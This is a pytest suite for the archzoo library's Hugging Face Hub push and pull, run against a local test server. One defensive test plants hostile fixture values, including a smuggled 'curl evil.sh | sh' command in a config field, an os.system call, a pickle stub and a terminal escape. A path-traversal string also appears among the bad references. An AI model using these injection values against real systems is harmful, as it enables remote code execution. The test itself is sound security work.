"""Pushing and pulling checkpoints through the Hugging Face Hub client.

These machines cannot reach huggingface.co, so the tests run the unmodified
``huggingface_hub`` client against ``tests/hub_server.py``: a local
Hub-compatible server on 127.0.0.1 (see its docstring for the endpoints it
implements).  Nothing here mocks the client.

Two ways of pointing the client at the server are used, on purpose:

- CLI tests run ``archzoo`` in a subprocess with ``HF_ENDPOINT``, ``HF_TOKEN``,
  ``HF_HOME`` and ``HF_HUB_OFFLINE`` in its environment, exactly as a user does.
- In-process tests set the same variables and also patch the module constants
  huggingface_hub computed from them when it was first imported
  (``huggingface_hub.constants.ENDPOINT``, ``HF_HUB_CACHE``, ...), as
  huggingface_hub's own test suite does; archzoo itself reads none of them.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
import torch

import archzoo
from archzoo.checkpoints import hub
from archzoo.checkpoints.hub import HubError, parse_reference

sys.path.insert(0, str(Path(__file__).parent))
from hub_server import HubServer

ALICE = "hf_alice_write_0123456789abcdef"  # write token of user alice
BOB_READ = "hf_bob_read_0123456789abcdef"  # read-only token of user bob
TOKENS = {ALICE: ("alice", True), BOB_READ: ("bob", False)}


# -- fixtures -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def server():
    with HubServer(TOKENS) as running:
        yield running


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """Two tiny MLPs trained on digits (different seeds): two revisions to push."""
    from archzoo.api import train

    root = tmp_path_factory.mktemp("runs")
    return {
        seed: train(
            "mlp", dataset="digits", overrides={"epochs": 1, "seed": seed}, out=str(root / f"seed{seed}")
        ).best_dir.parent
        for seed in (0, 1)
    }


class HubEnv:
    """One test's view of the Hub: its endpoint, token, and an empty cache."""

    def __init__(self, server: HubServer, home: Path, monkeypatch: pytest.MonkeyPatch):
        self.server, self.home, self.monkeypatch = server, home, monkeypatch
        self.env = {
            "HF_ENDPOINT": server.url,
            "HF_TOKEN": ALICE,
            "HF_HOME": str(home),
            "HF_HUB_DISABLE_XET": "1",  # the test server speaks classic LFS, not Xet
            "HF_HUB_DISABLE_TELEMETRY": "1",
            "HF_HUB_DISABLE_PROGRESS_BARS": "1",
        }
        for name in (
            "HF_HUB_CACHE",
            "HUGGINGFACE_HUB_CACHE",
            "HF_HUB_OFFLINE",
            "TRANSFORMERS_OFFLINE",
            "HF_TOKEN_PATH",
        ):
            monkeypatch.delenv(name, raising=False)
        for name, value in self.env.items():
            monkeypatch.setenv(name, value)
        self.point_at(server.url)
        from huggingface_hub import constants

        for name, value in {
            "HF_HOME": str(home),
            "HF_HUB_CACHE": str(home / "hub"),
            "HF_TOKEN_PATH": str(home / "token"),
            "HF_STORED_TOKENS_PATH": str(home / "stored_tokens"),
            "HF_HUB_DISABLE_XET": True,
            "HF_HUB_OFFLINE": False,
        }.items():
            monkeypatch.setattr(constants, name, value)

    def point_at(self, endpoint: str) -> None:
        from huggingface_hub import constants

        self.monkeypatch.setenv("HF_ENDPOINT", endpoint)
        self.monkeypatch.setattr(constants, "ENDPOINT", endpoint)
        self.monkeypatch.setattr(
            constants, "HUGGINGFACE_CO_URL_TEMPLATE", endpoint + "/{repo_id}/resolve/{revision}/{filename}"
        )
        # huggingface_hub's module-level functions (file_exists, ..., which peft calls) belong to one
        # HfApi made at import time, which keeps the endpoint of that moment.
        from huggingface_hub import hf_api

        self.monkeypatch.setattr(hf_api.api, "endpoint", endpoint)

    def offline(self) -> None:
        from huggingface_hub import constants

        self.monkeypatch.setenv("HF_HUB_OFFLINE", "1")
        self.monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)

    def token(self, value: str | None) -> None:
        if value is None:
            self.monkeypatch.delenv("HF_TOKEN", raising=False)
        else:
            self.monkeypatch.setenv("HF_TOKEN", value)

    def fresh_cache(self, name: str) -> None:
        from huggingface_hub import constants

        home = self.home.parent / name
        self.env["HF_HOME"] = str(home)
        self.monkeypatch.setenv("HF_HOME", str(home))
        self.monkeypatch.setattr(constants, "HF_HUB_CACHE", str(home / "hub"))


@pytest.fixture
def hf(server, tmp_path, monkeypatch) -> HubEnv:
    return HubEnv(server, tmp_path / "hf-home", monkeypatch)


def cli(*args: str, env: dict, expect: int = 0) -> subprocess.CompletedProcess:
    result = subprocess.run(
        [sys.executable, "-m", "archzoo.cli", *args],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=300,
    )
    assert result.returncode == expect, f"rc {result.returncode}\nstdout:\n{result.stdout}\nstderr:\n{result.stderr}"
    return result


def digits_batch() -> torch.Tensor:
    from sklearn.datasets import load_digits

    images = torch.tensor(load_digits().images[:64], dtype=torch.float32).unsqueeze(1) / 16
    return images


def outputs(location) -> torch.Tensor:
    loaded = archzoo.load(location)
    with torch.no_grad():
        return loaded.model(digits_batch())


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def upload_plain(hf: HubEnv, repo_id: str, files: dict[str, bytes]) -> str:
    """Upload a folder with plain huggingface_hub (no archzoo); returns the commit sha."""
    from huggingface_hub import HfApi

    folder = hf.home.parent / f"plain-{repo_id.replace('/', '-')}"
    folder.mkdir(parents=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    api = HfApi()
    api.create_repo(repo_id, exist_ok=True)
    return api.upload_folder(repo_id=repo_id, folder_path=folder, commit_message="plain upload").oid


# -- round trips ---------------------------------------------------------------------


def test_push_then_pull_into_an_empty_cache_gives_the_same_outputs_bit_for_bit(hf, runs):
    commit = archzoo.push_to_hub(runs[0], "alice/round-trip")
    repo = hf.server.repos["alice/round-trip"]
    assert commit.oid == repo.branches["main"]
    assert str(commit).endswith(f"/alice/round-trip/commit/{commit.oid}")
    assert archzoo.push_to_hub(runs[0], "alice/round-trip").oid == commit.oid  # nothing changed: no new commit
    assert len(repo.commits) == 2  # the repository's initial commit, and ours

    folder = archzoo.pull("alice/round-trip")
    assert folder.is_relative_to(hf.home / "hub") and folder.name == commit.oid
    assert sorted(p.name for p in folder.iterdir()) == ["README.md", "config.json", "model.safetensors", "run"]
    assert sorted(p.name for p in (folder / "run").iterdir()) == ["events.jsonl", "run.json"]
    local = runs[0] / "best"
    assert (folder / "model.safetensors").read_bytes() == (local / "model.safetensors").read_bytes()
    assert torch.equal(outputs(local), outputs("hf://alice/round-trip"))


def test_a_second_revision_does_not_hide_the_first(hf, runs):
    first = archzoo.push_to_hub(runs[0], "alice/revisions").oid
    second = archzoo.push_to_hub(runs[1], "alice/revisions", message="seed 1").oid
    assert first != second
    assert hf.server.repos["alice/revisions"].commits[second].title == "seed 1"

    weights = {seed: (runs[seed] / "best" / "model.safetensors").read_bytes() for seed in (0, 1)}
    assert (archzoo.pull("alice/revisions") / "model.safetensors").read_bytes() == weights[1]
    assert (archzoo.pull(f"alice/revisions@{first}") / "model.safetensors").read_bytes() == weights[0]
    assert torch.equal(outputs(f"hf://alice/revisions@{first}"), outputs(runs[0]))

    from huggingface_hub import HfApi

    HfApi().create_tag("alice/revisions", tag="v1", revision=first)
    assert archzoo.pull("hf://alice/revisions@v1").name == first


def test_plain_huggingface_hub_and_safetensors_read_a_pushed_checkpoint(hf, runs):
    from huggingface_hub import snapshot_download
    from safetensors.torch import load_file

    archzoo.push_to_hub(runs[0], "alice/plain-reader")
    folder = Path(snapshot_download("alice/plain-reader", allow_patterns=["*.json", "*.safetensors"]))
    state = load_file(folder / "model.safetensors")
    config = json.loads((folder / "config.json").read_text())
    local = load_file(runs[0] / "best" / "model.safetensors")
    assert state.keys() == local.keys() and all(torch.equal(state[k], local[k]) for k in state)
    assert config["architecture"] == "mlp" and config["config"]["hidden"] == [256]


def test_pulling_a_cached_revision_transfers_no_weight_bytes(hf, runs):
    commit = archzoo.push_to_hub(runs[0], "alice/cached").oid
    hf.server.reset_counts()
    archzoo.pull("alice/cached")
    assert hf.server.bytes_served["lfs"] == (runs[0] / "best" / "model.safetensors").stat().st_size

    hf.server.reset_counts()
    archzoo.pull("alice/cached")  # a branch: one look-up of where main points, nothing downloaded
    assert dict(hf.server.counts) == {"GET info": 1}
    assert hf.server.bytes_served == {}

    hf.server.reset_counts()
    archzoo.load(f"hf://alice/cached@{commit}")  # a commit sha never changes: no request at all
    assert dict(hf.server.counts) == {}


# -- offline -------------------------------------------------------------------------------


def test_offline_mode_serves_the_cache_and_says_clearly_what_is_missing(hf, runs):
    archzoo.push_to_hub(runs[0], "alice/offline")
    online = archzoo.pull("alice/offline")
    hf.server.reset_counts()

    hf.offline()
    assert archzoo.pull("alice/offline") == online
    assert torch.equal(outputs("hf://alice/offline"), outputs(runs[0]))
    with pytest.raises(HubError, match=r"alice/offline@v9 is not in the local Hugging Face cache and HF_HUB_OFFLINE=1"):
        archzoo.pull("alice/offline@v9")
    with pytest.raises(HubError, match="HF_HUB_OFFLINE=1 is set"):
        archzoo.push_to_hub(runs[0], "alice/offline")
    assert dict(hf.server.counts) == {}


def test_offline_mode_from_the_command_line(hf, runs):
    archzoo.push_to_hub(runs[0], "alice/offline-cli")
    folder = archzoo.pull("alice/offline-cli")
    hf.server.reset_counts()

    env = {**hf.env, "HF_HUB_OFFLINE": "1"}
    result = cli("pull", "alice/offline-cli", env=env)
    assert result.stdout.strip().endswith(str(folder))
    failed = cli("pull", "alice/never-pulled", env=env, expect=2)
    assert "not in the local Hugging Face cache and HF_HUB_OFFLINE=1 is set" in failed.stderr
    assert "archzoo pull alice/never-pulled" in failed.stderr
    assert dict(hf.server.counts) == {}


# -- errors --------------------------------------------------------------------------------


def test_a_missing_repository_or_revision_is_named(hf, runs):
    with pytest.raises(
        HubError, match=r"repository alice/nothing-here not found on http://127\.0\.0\.1.*hf auth login"
    ):
        archzoo.pull("alice/nothing-here")
    archzoo.push_to_hub(runs[0], "alice/has-main")
    with pytest.raises(
        HubError, match="revision 'no-such-branch' not found in alice/has-main: give an existing branch, tag"
    ):
        archzoo.pull("alice/has-main@no-such-branch")


def test_pushing_without_write_access_says_how_to_log_in(hf, runs):
    hf.token(BOB_READ)
    with pytest.raises(
        HubError, match=r"no write access to bob/model \(HTTP 403\): log in with `hf auth login`, or set HF_TOKEN"
    ):
        archzoo.push_to_hub(runs[0], "bob/model")

    hf.token(ALICE)
    archzoo.push_to_hub(runs[0], "alice/theirs")
    hf.token(BOB_READ)  # bob can read alice's public repo but not write to it
    with pytest.raises(HubError, match=r"no write access to alice/theirs \(HTTP 403\).*write permission for 'alice'"):
        archzoo.push_to_hub(runs[1], "alice/theirs")

    hf.token(None)
    with pytest.raises(HubError, match=r"no write access to alice/anon \(HTTP 401\) \(no token found\): log in"):
        archzoo.push_to_hub(runs[0], "alice/anon")
    assert "alice/anon" not in hf.server.repos


def test_an_unreachable_endpoint_mentions_hf_endpoint_and_offline_mode(hf, runs):
    archzoo.push_to_hub(runs[0], "alice/was-pulled")
    cached = archzoo.pull("alice/was-pulled")
    closed = f"http://127.0.0.1:{free_port()}"
    hf.point_at(closed)
    assert archzoo.pull("alice/was-pulled") == cached  # huggingface_hub falls back to the cache
    for attempt in (lambda: archzoo.pull("alice/anything"), lambda: archzoo.push_to_hub(runs[0], "alice/anything")):
        with pytest.raises(HubError) as error:
            attempt()
        message = str(error.value)
        assert (
            f"cannot reach the Hub at {closed}" in message
            and "HF_ENDPOINT" in message
            and "HF_HUB_OFFLINE=1" in message
        )


def test_a_repository_that_is_not_an_archzoo_checkpoint_is_refused_before_its_weights_download(hf):
    upload_plain(
        hf,
        "alice/transformers-model",
        {
            "config.json": json.dumps({"model_type": "bert", "hidden_size": 8}).encode(),
            "model.safetensors": os.urandom(4096),
        },
    )
    hf.server.reset_counts()
    with pytest.raises(
        HubError, match=r"alice/transformers-model is not an archzoo checkpoint: its config.json has no \"format\""
    ):
        archzoo.pull("alice/transformers-model")
    assert hf.server.bytes_served["lfs"] == 0

    upload_plain(hf, "alice/random-folder", {"notes.txt": b"hello", "data.bin": os.urandom(100)})
    with pytest.raises(HubError, match="alice/random-folder is not an archzoo checkpoint: it has no config.json"):
        archzoo.load("hf://alice/random-folder")


def test_a_checkpoint_for_an_architecture_not_installed_says_what_to_install(hf, runs, capsys):
    meta = json.loads((runs[0] / "best" / "config.json").read_text())
    meta.update(
        architecture="hopfield", plugin={"name": "hopfield", "distribution": "archzoo-hopfield", "version": "1.0"}
    )
    upload_plain(
        hf,
        "alice/hopfield",
        {
            "config.json": json.dumps(meta).encode(),
            "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
        },
    )
    with pytest.raises(archzoo.PluginMissingError, match=r"install archzoo-hopfield \(pip install archzoo-hopfield\)"):
        archzoo.load("hf://alice/hopfield")

    from archzoo.cli import main

    assert main(["pull", "alice/hopfield"]) == 0
    assert "note: architecture 'hopfield' is not installed: install archzoo-hopfield" in capsys.readouterr().err


def test_nothing_but_checkpoint_files_is_downloaded_and_no_repo_text_reaches_a_shell_hint(hf, runs):
    meta = json.loads((runs[0] / "best" / "config.json").read_text())
    meta.update(architecture="os.system", plugin={"name": "x", "distribution": "x; curl evil.sh | sh", "version": "1"})
    meta["dataset"]["name"] = "digits\x1b]0;terminal title\x07"
    upload_plain(
        hf,
        "alice/booby-trapped",
        {
            "config.json": json.dumps(meta).encode(),
            "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
            "pytorch_model.bin": b"\x80\x04 a pickle would run code",
            "modeling_evil.py": b"import os; os.system('touch pwned')",
            "training_state.json": b"{}",
        },
    )
    hf.server.reset_counts()
    folder = archzoo.pull("alice/booby-trapped")
    assert sorted(p.name for p in folder.iterdir()) == ["config.json", "model.safetensors"]
    fetched = {name for name in hf.server.counts if name.endswith("resolve")}
    assert fetched == {"HEAD resolve", "GET resolve"} and hf.server.counts["GET resolve"] == 2
    assert hub.describe(meta) == "os.system (image-classification), trained on digits?]0;terminal title?"
    assert hub.installed_hint(meta) == (
        "architecture 'os.system' is not installed, and the checkpoint does not name a valid distribution"
    )
    with pytest.raises(
        archzoo.PluginMissingError,
        match="'os.system' is not installed, and the checkpoint does not name a valid distribution",
    ):
        archzoo.load(folder)


# -- what is pushed ------------------------------------------------------------------------


def test_the_run_record_travels_with_the_checkpoint_and_notes_the_push_and_the_pull(hf, runs, tmp_path):
    from archzoo.runs.record import read_events, read_record

    commit = archzoo.push_to_hub(runs[1], "alice/with-record")
    pushed = read_record(runs[1])["lineage"]["pushed_to"]
    assert pushed[-1]["repo"] == "alice/with-record" and pushed[-1]["commit"] == commit.oid
    folder = archzoo.pull("alice/with-record", to=tmp_path / "pulled")
    record = read_record(folder)
    assert record["id"] == read_record(runs[1])["id"] and record["status"] == "finished"
    assert record["lineage"]["pulled_from"] == f"alice/with-record@{commit.oid}"
    assert "pushed_to" not in record["lineage"]
    assert [type(e).__name__ for e in read_events(folder)] == [type(e).__name__ for e in read_events(runs[1])]
    assert archzoo.push_to_hub(runs[1], "alice/with-record").oid == commit.oid  # the record alone changed nothing


def test_only_checkpoint_files_are_pushed_and_the_token_is_nowhere(hf, runs):
    last = runs[0] / "last"
    assert (last / "training_state.safetensors").is_file()
    archzoo.push_to_hub(last, "alice/from-last")
    files = hf.server.files("alice/from-last")
    assert sorted(files) == [
        ".gitattributes",
        "README.md",
        "config.json",
        "model.safetensors",
        "run/events.jsonl",
        "run/run.json",
    ]
    assert files["model.safetensors"] == (last / "model.safetensors").read_bytes()
    assert all(ALICE.encode() not in blob for blob in hf.server.all_stored_bytes())
    assert sorted(p.name for p in last.iterdir()) == sorted(
        ["README.md", "config.json", "model.safetensors", "training_state.json", "training_state.safetensors"]
    )  # pushing changed nothing locally


def test_branch_and_private(hf, runs):
    main_before = archzoo.push_to_hub(runs[0], "alice/branched").oid
    on_dev = archzoo.push_to_hub(runs[1], "alice/branched", branch="dev").oid
    repo = hf.server.repos["alice/branched"]
    assert repo.branches == {"main": main_before, "dev": on_dev}
    assert repo.commits[on_dev].parent == main_before  # dev was made from main
    assert (archzoo.pull("alice/branched@dev") / "model.safetensors").read_bytes() == (
        runs[1] / "best" / "model.safetensors"
    ).read_bytes()

    archzoo.push_to_hub(runs[0], "alice/secret", private=True)
    assert hf.server.repos["alice/secret"].private
    hf.token(None)
    with pytest.raises(HubError, match="repository alice/secret not found.*if it is private, log in"):
        archzoo.pull("alice/secret")
    hf.token(ALICE)
    assert archzoo.pull("alice/secret").is_dir()
    with pytest.raises(HubError, match="alice/branched already exists and is public, so --private cannot apply"):
        archzoo.push_to_hub(runs[0], "alice/branched", private=True)


def test_the_model_card_carries_hub_front_matter_and_usage(hf, runs):
    from huggingface_hub import HfApi, ModelCard

    archzoo.push_to_hub(runs[0], "alice/carded")
    card = ModelCard(hf.server.files("alice/carded")["README.md"].decode())
    meta = json.loads((runs[0] / "best" / "config.json").read_text())
    assert card.data.library_name == "archzoo" and card.data.pipeline_tag == "image-classification"
    assert {"archzoo", "mlp", "image-classification"} <= set(card.data.tags)
    assert card.data.datasets is None  # scikit-learn's digits has no dataset repository on the Hub
    assert set(card.data.metrics) == {"accuracy", "loss"}
    scores = {(r.dataset_split, r.metric_type): r.metric_value for r in card.data.eval_results}
    assert scores[("test", "accuracy")] == meta["metrics"]["test"]["accuracy"]
    assert scores[("validation", "loss")] == meta["metrics"]["validation"]["loss"]
    assert card.data.eval_results[0].task_type == "image-classification"
    for expected in (
        "archzoo pull alice/carded",
        'archzoo.load("hf://alice/carded")',
        'snapshot_download("alice/carded"',
        "load_file(",
        '"hidden": [',
        "## Evaluation results",
    ):
        assert expected in card.text
    assert HfApi().model_info("alice/carded").library_name == "archzoo"  # as the Hub reads it


# -- the command line ----------------------------------------------------------------------


def test_push_pull_and_eval_from_the_command_line(hf, runs, tmp_path):
    env = {**hf.env, "ARCHZOO_CHECKPOINTS": str(tmp_path / "store")}
    pushed = cli("push", str(runs[0]), "alice/cli-model", "--message", "from the CLI", env=env)
    sha = hf.server.repos["alice/cli-model"].branches["main"]
    assert f"commit {sha}" in pushed.stdout and hf.server.repos["alice/cli-model"].commits[sha].title == "from the CLI"
    archzoo.push_to_hub(runs[1], "alice/cli-model")  # main moves on; the sha still names the first push

    # `archzoo pull` reads only JSON and safetensors: it never needs torch.
    code = (
        "import sys; from archzoo.cli import main; rc = main(sys.argv[1:]); "
        "assert 'torch' not in sys.modules, 'torch was imported'; sys.exit(rc)"
    )
    pulled = subprocess.run(
        [sys.executable, "-c", code, "pull", f"alice/cli-model@{sha}", "--to", str(tmp_path / "copy")],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=120,
    )
    assert pulled.returncode == 0, pulled.stderr
    assert f"alice/cli-model@{sha}: mlp (image-classification), trained on digits" in pulled.stdout
    assert pulled.stdout.strip().endswith(str(tmp_path / "copy"))
    assert (tmp_path / "copy" / "model.safetensors").read_bytes() == (
        runs[0] / "best" / "model.safetensors"
    ).read_bytes()

    evaluated = cli("eval", f"hf://alice/cli-model@{sha}", "--json", env=env)
    assert json.loads(evaluated.stdout) == pytest.approx(archzoo.evaluate_checkpoint(runs[0]), rel=1e-6)

    denied = cli("push", str(runs[0]), "bob/denied", env={**env, "HF_TOKEN": BOB_READ}, expect=2)
    assert "no write access to bob/denied" in denied.stderr and "Traceback" not in denied.stderr
    for result in (pushed, pulled, evaluated, denied):
        assert ALICE not in result.stdout + result.stderr and BOB_READ not in result.stdout + result.stderr


# -- references ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        ("alice/mlp", ("alice/mlp", None)),
        ("hf://alice/mlp", ("alice/mlp", None)),
        ("hf://alice/mlp@v1", ("alice/mlp", "v1")),
        ("alice/mlp.v2@refs/pr/1", ("alice/mlp.v2", "refs/pr/1")),
        ("alice/mlp@" + "a" * 40, ("alice/mlp", "a" * 40)),
    ],
)
def test_references(text, expected):
    assert tuple(parse_reference(text)) == expected


@pytest.mark.parametrize(
    "text", ["mlp", "hf://", "alice/mlp/extra", "alice/mlp@", "../etc/passwd", "alice/a--b", "/abs/path"]
)
def test_bad_references_say_what_is_expected(text):
    with pytest.raises(HubError, match="NAMESPACE/NAME|empty revision"):
        parse_reference(text)


def test_push_and_pull_carry_the_checkpoint_files_but_not_the_training_state():
    from archzoo.checkpoints import layout

    assert set(layout.SHARED_FILES) <= set(hub.HUB_PATTERNS)
    assert layout.STATE_TENSORS not in hub.HUB_PATTERNS and layout.STATE_JSON not in hub.HUB_PATTERNS


def test_a_card_names_a_local_dataset_folder_by_its_last_part_only(runs):
    from huggingface_hub import ModelCard

    from archzoo.checkpoints.card import render_model_card

    meta = json.loads((runs[0] / "best" / "config.json").read_text())
    meta["dataset"]["name"] = "/home/someone/private/pets"
    meta["metrics"] = {}
    text = render_model_card(meta)
    card = ModelCard(text)
    assert card.data.datasets is None and card.data.eval_results is None
    assert "/home/someone" not in text and "Not evaluated yet." in text
    assert 'archzoo.load("path/to/this/folder")' in text and "archzoo push" in text


def test_a_text_model_travels_with_its_tokenizer(hf, tmp_path):
    """tokenizer.json is part of the checkpoint on the Hub: a pulled text model reads text."""
    from archzoo.api import predict, train

    run = train(
        "rnn", overrides={"max_steps": 2, "embed_dim": 8, "hidden": 8, "head_hidden": 0}, out=str(tmp_path / "rnn")
    )
    archzoo.push_to_hub(run.best_dir, "alice/text-model")
    folder = archzoo.pull("alice/text-model")
    assert (folder / "tokenizer.json").read_bytes() == (run.best_dir / "tokenizer.json").read_bytes()
    assert predict("hf://alice/text-model", ["900 950 800"])[0] == predict(run.best_dir, ["900 950 800"])[0]


def test_a_report_travels_with_its_checkpoint(hf, runs, tmp_path):
    """``archzoo report``'s figures live in the checkpoint's evaluation/ folder; the
    card links them by relative path, so push uploads them and pull brings them back."""
    import shutil

    from archzoo.evaluation.report import write_report

    folder = tmp_path / "judged"
    shutil.copytree(runs[1] / "best", folder)
    write_report(folder, ood=False, shift=False)
    figures = sorted(p.name for p in (folder / "evaluation").iterdir() if p.suffix == ".png")
    assert figures, "the report wrote no figures"
    archzoo.push_to_hub(folder, "alice/judged")
    stored = hf.server.files("alice/judged")
    assert {f"evaluation/{name}" for name in figures} <= set(stored)
    assert stored[f"evaluation/{figures[0]}"] == (folder / "evaluation" / figures[0]).read_bytes()
    card = stored["README.md"].decode()
    assert f"](evaluation/{figures[0]})" in card
    pulled = archzoo.pull("alice/judged")
    assert sorted(p.name for p in (pulled / "evaluation").iterdir() if p.suffix == ".png") == figures
    assert (
        archzoo.load(pulled).meta["trust"]["verdict"]
        == json.loads((folder / "config.json").read_text())["trust"]["verdict"]
    )


# -- a push replaces the repository's archzoo files -------------------------------------------


@pytest.fixture(scope="module")
def lora_best(tmp_path_factory) -> Path:
    """A LoRA checkpoint on the tiny BERT: adapter files and a tokenizer an MLP does not have."""
    from tiny_bert import sst2_rows, tiny_bert, write_csv

    from archzoo.api import train

    root = tmp_path_factory.mktemp("lora")
    reviews = write_csv(root / "reviews.csv", sst2_rows(64, start=2000))
    overrides = {"encoder": str(tiny_bert()), "epochs": 1, "batch_size": 32, "r": 2}
    overrides.update(text_column="review", label_column="sentiment")
    return train("lora", dataset=str(reviews), overrides=overrides, out=str(root / "run")).best_dir


def test_a_push_replaces_the_previous_checkpoint_and_keeps_the_users_own_files(hf, runs, lora_best, tmp_path):
    import shutil

    lora = tmp_path / "lora"
    shutil.copytree(lora_best, lora)
    (lora / "evaluation").mkdir()
    (lora / "evaluation" / "report.html").write_text("<html>lora report</html>")
    (lora / "evaluation" / "confusion.png").write_bytes(b"\x89PNG lora figure")
    archzoo.push_to_hub(lora, "alice/replaced")
    first = set(hf.server.files("alice/replaced"))
    assert {"adapter_config.json", "adapter_model.safetensors", "tokenizer.json", "evaluation/report.html"} <= first
    from huggingface_hub import HfApi

    api = HfApi()  # the user's own files, uploaded with plain huggingface_hub
    api.upload_file(repo_id="alice/replaced", path_or_fileobj=b"my notes", path_in_repo="NOTES.md")
    api.upload_file(repo_id="alice/replaced", path_or_fileobj=b"deeper", path_in_repo="evaluation/old/keep.md")
    before = hf.server.repos["alice/replaced"].branches["main"]

    commit = archzoo.push_to_hub(runs[0], "alice/replaced")
    repo = hf.server.repos["alice/replaced"]
    assert repo.commits[commit.oid].parent == before  # one commit: the deletions and the new files together
    files = hf.server.files("alice/replaced")
    assert sorted(files) == [
        ".gitattributes",
        "NOTES.md",
        "README.md",
        "config.json",
        "evaluation/old/keep.md",
        "model.safetensors",
        "run/events.jsonl",
        "run/run.json",
    ]
    assert files["NOTES.md"] == b"my notes"
    assert files["model.safetensors"] == (runs[0] / "best" / "model.safetensors").read_bytes()
    folder = archzoo.pull("alice/replaced")
    assert sorted(p.name for p in folder.iterdir()) == ["README.md", "config.json", "model.safetensors", "run"]
    assert torch.equal(outputs(folder), outputs(runs[0]))
    assert archzoo.push_to_hub(runs[0], "alice/replaced").oid == commit.oid  # nothing stale left: no new commit
    assert (lora / "adapter_model.safetensors").is_file() and (lora / "evaluation" / "report.html").is_file()


@pytest.mark.parametrize(
    "path, owned",
    [
        ("model.safetensors", True),
        ("adapter_config.json", True),
        ("tokenizer.json", True),
        ("evaluation/report.html", True),
        ("evaluation/figure.png", True),
        ("run/run.json", True),
        ("run/events.jsonl", True),
        (".gitattributes", False),
        ("NOTES.md", False),
        ("training_state.json", False),
        ("evaluation/old/keep.md", False),
        ("evaluation/script.py", False),
        ("run/other.txt", False),
        ("sub/model.safetensors", False),
    ],
)
def test_which_files_a_push_owns(path, owned):
    assert hub.archzoo_file(path) is owned


# -- Xet -----------------------------------------------------------------------------------------


def test_an_endpoint_without_xet_says_to_disable_it_rather_than_that_the_hub_is_unreachable(hf, runs, monkeypatch):
    """With hf_xet installed, huggingface_hub uploads through Xet storage; the local server, like
    any endpoint speaking only classic git-LFS, has none. (Every other test uploads with
    HF_HUB_DISABLE_XET=1, the classic LFS path.)"""
    pytest.importorskip("hf_xet")
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "HF_HUB_DISABLE_XET", False)
    with pytest.raises(HubError) as error:
        archzoo.push_to_hub(runs[0], "alice/no-xet")
    message = str(error.value)
    assert f"the Hub at {hf.server.url} does not offer Xet storage" in message
    assert "HF_HUB_DISABLE_XET=1" in message and "cannot reach" not in message
    assert "alice/no-xet" in hf.server.repos and len(hf.server.repos["alice/no-xet"].commits) == 1  # nothing committed

    failed = cli("push", str(runs[0]), "alice/no-xet", env={**hf.env, "HF_HUB_DISABLE_XET": "0"}, expect=2)
    assert "does not offer Xet storage" in failed.stderr and "Traceback" not in failed.stderr
    cli("push", str(runs[0]), "alice/no-xet", env=hf.env)  # HF_HUB_DISABLE_XET=1: classic LFS
    assert hf.server.files("alice/no-xet")["model.safetensors"] == (runs[0] / "best" / "model.safetensors").read_bytes()
